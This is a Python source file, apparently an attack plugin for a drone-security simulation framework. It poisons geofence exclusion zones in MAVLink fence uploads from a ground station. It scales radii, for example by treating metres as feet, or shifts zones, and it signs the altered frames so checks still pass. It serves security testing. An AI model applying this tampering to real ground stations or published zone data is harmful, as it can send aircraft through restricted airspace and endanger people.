"""Poisoned geo-zones: the closed areas that a ground station loads before the flight are not the published ones."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Final, Literal

import skyrange.plugin as sky
from skyrange.attack.bases.links import CopyForLink
from skyrange.attack.bases.mavlink.altered_upload import AlteredUpload
from skyrange.attack.bases.mavlink.compromised_sender import SenderStream, station_key
from skyrange.attack.bases.mavlink.message_fields import move_place, put
from skyrange.attack.params import check_vehicles
from skyrange.codec.mavlink import dialect as mav
from skyrange.core.geodesy import Origin

Form = Literal["scale", "move"]
_CIRCLES: Final = frozenset((mav.MAV_CMD_NAV_FENCE_CIRCLE_INCLUSION, mav.MAV_CMD_NAV_FENCE_CIRCLE_EXCLUSION))
_CORNERS: Final = frozenset((
    mav.MAV_CMD_NAV_FENCE_POLYGON_VERTEX_INCLUSION, mav.MAV_CMD_NAV_FENCE_POLYGON_VERTEX_EXCLUSION,
))  # fmt: skip
_EXCLUSIONS: Final = frozenset((
    mav.MAV_CMD_NAV_FENCE_CIRCLE_EXCLUSION, mav.MAV_CMD_NAV_FENCE_POLYGON_VERTEX_EXCLUSION,
))  # fmt: skip
_LEAST_RADIUS_M: Final = 0.1
"""An autopilot refuses a circle without a radius (AC_PolyFence_loader.cpp `validate_fence`)."""


@dataclass(slots=True)
class ZoneAlteration:
    """The alteration of the zones of one upload, item by item, in the order of their numbers."""

    form: Form
    factor: float
    offset_m: tuple[float, float]
    origin: Origin
    all_zones: bool
    """Whether zones that the aircraft has to stay in are altered too."""
    firsts: dict[int, tuple[int, float, float]] = field(default_factory=dict)
    """By the number of a corner: those of its polygon's first one, east and north in metres, and how many it has."""

    def alter_item(self, fields: Any, count: int) -> bool:
        """Write into an item of a fence; returns whether it is one that is altered."""
        command = int(fields["command"])
        if not fields["seq"]:
            self.firsts.clear()  # another upload begins
        if not (command in _EXCLUSIONS or (self.all_zones and command in _CIRCLES | _CORNERS)):
            return False
        if self.form == "move":
            move_place(fields, "x", "y", (*self.offset_m, 0.0), self.origin)
        elif command in _CIRCLES:
            put(fields, "param1", max(float(fields["param1"]) * self.factor, _LEAST_RADIUS_M))
        else:
            self._scale_corner(fields)
        return True

    def _scale_corner(self, fields: Any) -> None:
        """Move a corner towards the first one of its polygon, or away from it."""
        east_m, north_m = self.origin.enu_of(fields["x"] * 1e-7, fields["y"] * 1e-7)
        number, corners = int(fields["seq"]), int(fields["param1"])
        if number not in self.firsts:
            self.firsts |= dict.fromkeys(range(number, number + max(corners, 1)), (number, east_m, north_m))
        _, first_east_m, first_north_m = self.firsts[number]
        by_m = ((east_m - first_east_m) * (self.factor - 1.0), (north_m - first_north_m) * (self.factor - 1.0), 0.0)
        move_place(fields, "x", "y", by_m, self.origin)


_FARTHEST_M = 50_000.0


@sky.attack(
    "ground.geo_zones",
    technique="T0836",
    from_start=True,
    places=(),
    surface=("gcs",),
    persists="flight",
    effect="the fence of the aircraft is elsewhere: it flies through a closed area, or an open one is closed to it",
    knowledge="the form of the data set, which is public (EUROCAE ED-269, chapter 8; ED-318)",
    position="where the data set is published, mirrored or stored: a web server, a proxy, the station's disk",
    equipment="write access to the file; no link and no key",
    budget="no frames of its own",
    load="the sham: the same frames are replaced by copies of themselves",
    content="an offset below the accuracy of positioning, such as 0.1 m",
    placement="the same alteration of another operator's data set",
    realism={
        "data set": "cited: zones are published in a common digital format (Regulation (EU) 2019/947, article 15; its "
        "AMC names ED-269, chapter 8), and an aircraft loads them (2019/945, annex, part 2 point 13, part 3 point 15, "
        "part 4 point 10; EN 4709-003); ED-269 and ED-318 themselves were not read, their fields are those of "
        "InterUSS's uas_standards (`eurocae_ed269`)",
        "factor 0.3048": "simulated: `uomDimensions` FT for M",
        "what holds the aircraft": "simulated: the fence that the station uploads, by ArduPilot's rules",
        "planning": "assumed: by the same data set, so that the plan leads through the area",
    },
)
class GeoZones(sky.LinkTap):
    """Alters the areas that are closed to an aircraft before the ground station uploads them as its fence.

    The attack has to begin at 0 s, because zones are loaded then. Upload and read-back agree on the altered zones, and
    the station signs them: the alteration is made where they leave the station.
    """

    vehicles: sky.Victims = sky.param("Aircraft whose zones are altered, such as ['blue/b1'].")
    form: Form = sky.param(
        "scale: radii are multiplied, and corners moved towards the first one of their polygon; move: zones are moved.",
        default="scale",
    )
    factor: sky.Number = sky.param(
        "Factor of the sizes of zones, for 'scale'; 0.3048 is a radius in metres that is read as feet.",
        default=0.3048,
        ge=0.001,
        le=1000,
    )
    east_m: sky.Number = sky.param("Metres to the east, for 'move'.", default=0.0, ge=-_FARTHEST_M, le=_FARTHEST_M)
    north_m: sky.Number = sky.param("Metres to the north, for 'move'.", default=0.0, ge=-_FARTHEST_M, le=_FARTHEST_M)
    all_zones: bool = sky.param("Whether zones that the aircraft has to stay inside of are altered too.", default=False)
    origin: sky.Origin
    upload: AlteredUpload

    def find_problems(self) -> sky.Problems:
        if self.form == "move" and not (self.east_m or self.north_m):
            yield sky.Problem("east_m", "0", "an offset that is not zero, for 'move'")
        elif self.form == "scale" and self.factor == 1:
            yield sky.Problem("factor", "1", "another factor than 1, for 'scale'")

    def build(self, context: sky.AttackContext) -> sky.Attack:
        """Taps where zones leave the station. Raises `InputError` for aircraft that are not in the scenario."""
        check_vehicles(context, self.vehicles)
        self.origin = context.origin
        links, make = [sky.link_name("gcs", vehicle) for vehicle in self.vehicles], CopyForLink(self)
        return sky.Attack(
            taps=[sky.TapPlacement(link, "gcs", make) for link in links],
            exclusive=[sky.Exclusive(f"zones of {vehicle}") for vehicle in self.vehicles],
        )

    def begin(self) -> None:
        alteration = ZoneAlteration(self.form, self.factor, (self.east_m, self.north_m), self.origin, self.all_zones)
        secret = station_key(self.chance.seed, sky.operator_of(self.link.partition(":")[2]))
        streams = SenderStream(secret), SenderStream(secret)
        self.upload = AlteredUpload(alteration, *streams, mission_type=int(mav.MAV_MISSION_TYPE_FENCE))

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        """Alter an item of a fence; a sham sends it on as it is, with as many bytes."""
        sent = self.upload.alter(frame, sham=self.sham) if self.is_acting(now) else None
        return () if sent is None else (sky.Replace(sent),)
